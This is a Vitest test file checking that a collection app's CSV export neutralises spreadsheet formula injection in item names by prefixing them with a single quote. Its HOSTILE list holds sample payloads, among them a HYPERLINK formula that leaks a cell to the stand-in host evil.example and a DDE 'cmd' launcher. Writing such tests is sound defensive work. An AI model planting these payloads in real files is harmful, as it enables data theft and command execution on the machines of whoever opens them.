import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { queryRows } from '#server/db/client.ts'
import { updateUserByEmail } from '#server/modules/admin/admin.repo.ts'
import { pricesSettled } from '../support/prices-settled.ts'
import { signUp, uniqueEmail } from '../support/session.ts'
import { setupTestApp } from '../support/test-app.ts'

// Issue 11: item names went into the export as they are, so a spreadsheet ran them as formulas.
const context = setupTestApp()
const today = new Date().toISOString().slice(0, 10)
const people = { owner: '', trusted: '' }
let galaxy = 0

beforeAll(async () => {
  for (const role of Object.keys(people) as Array<keyof typeof people>) {
    const email = uniqueEmail(role)
    people[role] = (await signUp(context.app, { email })).cookie
    if (role === 'trusted') await updateUserByEmail(context.database.db, email, { isTrusted: true })
  }
  const [row] = await queryRows<{ id: number }>(
    context.database.db,
    sql`select id from items where number = '10497-1'`,
  )
  galaxy = row?.id as number
})

async function send(method: 'GET' | 'POST', url: string, cookie: string, payload?: object) {
  // A request sees the prices of every sale change committed before it (they are recomputed after commit).
  await pricesSettled(context.app)
  return context.app.inject({ method, url, headers: { cookie }, ...(payload ? { payload } : {}) })
}

async function collect(itemId: number, pricePaid: string) {
  const response = await send('POST', '/api/collections', people.owner, {
    itemId,
    condition: 'New/Sealed',
    pricePaid,
    currency: 'GBP',
  })
  expect(response.statusCode, response.body).toBe(201)
}

async function exported(): Promise<Array<Record<string, string>>> {
  const response = await send('GET', '/api/collections/export.csv', people.owner)
  expect(response.statusCode).toBe(200)
  return parse(response.body, { columns: true })
}

describe('GET /api/collections/export.csv and spreadsheet formulas', () => {
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    '@SUM(1+1)',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
  ]

  it.each(HOSTILE)('writes the item name %s as text, behind a single quote', async (name) => {
    const created = await send('POST', '/api/items', people.owner, {
      type: 'set',
      name,
      number: `7${Math.floor(Math.random() * 1e6)}-1`,
      theme: name,
    })
    expect(created.statusCode, created.body).toBe(201)
    await collect(created.json().id, '10')
    const row = (await exported()).find((entry) => entry.item_number === created.json().number)
    expect(row).toMatchObject({ name: `'${name}`, theme: `'${name}` })
  })

  it('leaves plain names and negative amounts readable as they are', async () => {
    const sale = await send('POST', `/api/items/${galaxy}/sales`, people.trusted, {
      price: '100',
      currency: 'GBP',
      condition: 'New/Sealed',
      saleDate: today,
      source: 'eBay',
    })
    expect(sale.statusCode, sale.body).toBe(201)
    await collect(galaxy, '150')
    const row = (await exported()).find((entry) => entry.item_number === '10497-1')
    expect(row).toMatchObject({
      name: 'Galaxy Explorer',
      price_paid: '150.00',
      value_gbp: '100.00',
      pnl_gbp: '-50.00',
    })
  })
})
